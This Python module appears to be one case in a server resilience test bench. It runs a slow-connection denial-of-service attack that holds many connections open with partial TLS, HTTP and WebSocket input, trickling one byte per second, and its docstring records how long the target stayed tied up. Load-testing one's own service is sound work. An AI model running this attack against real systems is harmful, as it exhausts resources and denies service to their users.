"""Every phase, as slowly as can be.

Half a TLS hello, half a head, half a body, answers that nobody reads, half a frame, each followed by a byte a
second. Some stayed for 100 s and more, a frame for ever; an HTTP/2 window of 0 held 5 MB each.
"""

from collections import Counter

import trio

from bench.attack.harness import Report
from bench.attack.tools import ATTACKERS, Target, connect, request

NUMBER = "12.15"
SHORT = 4.0
_AT_ONCE = 20  # of each kind

_HANDSHAKE = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec_WebSocket_Key": "dGhlIHNhbXBsZSBub25jZQ==",
    "Sec_WebSocket_Version": "13",
}


async def attack(target: Target, seconds: float) -> dict[str, int]:
    upgrade = request(target, "/ws", **_HANDSHAKE)
    kinds = {
        "nothing": b"",
        "head": request(target, "/")[:-2],
        "body": request(target, "/api/ice", "POST", Content_Length="9999"),
        "answers": request(target, "/web/peershare.js") * 100,
        "frame": upgrade + b"\x81\xfe\xff\xff\0\0\0\0",
        "fragments": upgrade + b"\x01\x81\0\0\0\0x",
    }
    counts = Counter[str]()
    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            for name, sent in kinds.items():
                for _ in range(_AT_ONCE):
                    nursery.start_soon(_trickle, target, name, sent, counts)
    return dict(counts)


async def _trickle(target: Target, name: str, sent: bytes, counts: Counter[str]) -> None:
    while True:
        try:
            async with await connect(target, ATTACKERS[0]) as stream:
                counts[name] += 1
                await stream.send_all(sent)
                while True:
                    await trio.sleep(1)
                    await stream.send_all(b"x")
        except (OSError, trio.BrokenResourceError):
            counts["closed"] += 1
            await trio.sleep(0.1)


def check(report: Report) -> None:
    """Everything was tried; what is kept of it is in the memory that the harness looks at."""
    assert len(report.counts) >= 6
